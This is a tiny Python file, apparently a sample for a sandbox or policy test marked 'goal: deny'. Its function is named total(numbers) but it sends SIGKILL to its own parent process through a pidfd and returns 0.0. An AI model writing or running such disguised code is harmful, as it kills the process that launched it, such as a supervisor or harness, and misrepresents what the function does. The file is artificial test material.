"""Kill the process that started this one through a descriptor of it."""
# goal: deny
# level: guarded
import os
import signal


def total(numbers):
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
    return 0.0
